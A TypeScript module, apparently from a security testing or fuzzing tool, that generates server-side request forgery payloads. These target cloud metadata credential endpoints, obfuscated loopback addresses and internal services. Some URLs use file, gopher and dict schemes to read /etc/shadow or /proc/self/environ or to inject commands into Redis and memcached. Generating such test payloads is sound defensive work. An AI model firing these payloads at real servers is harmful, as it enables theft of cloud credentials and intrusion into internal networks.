import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { distinctSamples } from './distinct.js';

/** Internal targets and their usual obfuscations (decimal/hex/octal IPs, IPv6, DNS tricks). */
const LOOPBACK = [
  '127.0.0.1',
  'localhost',
  '127.1',
  '0',
  '0.0.0.0',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '017700000001',
  '[::1]',
  '[::]',
  '[0:0:0:0:0:ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '127.0.0.1.nip.io',
  'localtest.me',
  '127.127.127.127',
  'spoofed.burpcollaborator.net',
];
const METADATA: ReadonlyArray<readonly [string, readonly string[]]> = [
  [
    '169.254.169.254',
    [
      '/latest/meta-data/',
      '/latest/meta-data/iam/security-credentials/',
      '/latest/user-data',
      '/latest/api/token',
      '/latest/dynamic/instance-identity/document',
      '/metadata/instance?api-version=2021-02-01',
      '/metadata/v1/',
      '/openstack/latest/meta_data.json',
    ],
  ],
  [
    'metadata.google.internal',
    [
      '/computeMetadata/v1/',
      '/computeMetadata/v1/instance/service-accounts/default/token',
      '/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json',
    ],
  ],
  ['100.100.100.200', ['/latest/meta-data/', '/latest/meta-data/ram/security-credentials/']],
  ['169.254.170.2', ['/v2/credentials/', '/v2/metadata']],
  ['[fd00:ec2::254]', ['/latest/meta-data/']],
];
const INTERNAL_SERVICES = [
  '10.0.0.1',
  '10.10.1.5',
  '192.168.0.1',
  '192.168.1.254',
  '172.16.0.10',
  '172.31.255.1',
  'kubernetes.default.svc',
  'internal-api.local',
  'admin.internal',
  'consul.service.consul',
];
const PORTS = [
  '',
  '',
  ':22',
  ':25',
  ':80',
  ':443',
  ':2375',
  ':2379',
  ':3306',
  ':5432',
  ':6379',
  ':8080',
  ':8500',
  ':9200',
  ':11211',
  ':10250',
];

/** SSRF targets: cloud metadata, loopback and internal services, in URL schemes apps fetch. */
export function generateSsrf(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('ssrf', 'ssrf', count, rng, (r) => {
    const kind = r.weighted<string>([
      ['metadata', 4],
      ['loopback', 4],
      ['internal', 2],
      ['scheme', 2],
      ['userinfo', 1],
    ]);
    if (kind === 'metadata') {
      const [host, paths] = r.pick(METADATA);
      return `${r.pick(['http', 'http', 'https'])}://${host}${r.pick(paths)}`;
    }
    if (kind === 'loopback')
      return `${r.pick(['http', 'https', 'http'])}://${r.pick(LOOPBACK)}${r.pick(PORTS)}${r.pick(['/', '/admin', '/server-status', '/actuator/env', '/debug/pprof/', '/_cat/indices', '/v1.24/containers/json', '/metrics', ''])}`;
    if (kind === 'internal')
      return `http://${r.pick(INTERNAL_SERVICES)}${r.pick(PORTS)}${r.pick(['/', '/api/v1/secrets', '/admin/config', '/v2/keys/?recursive=true', ''])}`;
    if (kind === 'userinfo')
      return `http://${r.pick(['example.com', 'trusted.example.org', 'cdn.example.net'])}@${r.pick([...LOOPBACK.slice(0, 8), '169.254.169.254'])}${r.pick(['/', '/latest/meta-data/', '/admin'])}`;
    return r.pick([
      `file:///etc/${r.pick(['passwd', 'hosts', 'shadow'])}`,
      `file:///proc/self/${r.pick(['environ', 'cmdline'])}`,
      `gopher://${r.pick(LOOPBACK.slice(0, 4))}:${r.pick([6379, 25, 3306, 11211, 9000])}/_${r.pick(['INFO%0d%0a', 'stats%0aquit', 'HELO%20x%0d%0a', '%01%01%00%01'])}`,
      `dict://${r.pick(LOOPBACK.slice(0, 4))}:${r.pick([6379, 11211, 22])}/${r.pick(['info', 'stats', 'version'])}`,
      `ftp://${r.pick(INTERNAL_SERVICES)}/`,
      `ldap://${r.pick(LOOPBACK.slice(0, 4))}:389/%0astats%0aquit`,
      `jar:http://${r.pick(LOOPBACK.slice(0, 4))}!/`,
      `netdoc:///etc/passwd`,
      `tftp://${r.pick(INTERNAL_SERVICES)}:69/test`,
    ]);
  });
}
